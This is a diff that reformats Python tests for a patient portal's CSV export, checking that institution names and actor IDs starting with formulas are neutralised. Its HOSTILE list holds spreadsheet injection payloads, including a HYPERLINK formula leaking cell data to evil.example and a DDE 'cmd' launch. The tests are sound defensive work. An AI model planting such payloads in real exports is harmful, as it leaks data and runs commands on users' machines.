@@ -10,8 +10,15 @@ from homeconsent.registry.codes import with_check_digit
 from homeconsent.registry.models import ExpenseNotice, Institution
 from homeconsent.spreadsheet import csv_text, neutralised
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1", "＝1+1"]  # fmt: skip
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
 
 
 def cells(response):
@@ -56,8 +63,14 @@ def test_access_csv_neutralises_the_institution_and_the_actor_column(signed_in, 
     # given reads by the staff and by the system of an institution whose name is a formula
     hostile = Institution.objects.create(code=with_check_digit("139999991"), name=name)
     for actor_type in ("institution_staff", "institution_client"):
-        record_access(actor_type=actor_type, actor_id="=1+1", person=me.person, items=["medication"],
-                      basis="consent", institution_code=hostile.code)  # fmt: skip
+        record_access(
+            actor_type=actor_type,
+            actor_id="=1+1",
+            person=me.person,
+            items=["medication"],
+            basis="consent",
+            institution_code=hostile.code,
+        )
     # when the patient downloads the access history
     rows = cells(signed_in.get("/portal/access.csv"))
     # then the institution column and the actor column (閲覧した者) hold the name as text only
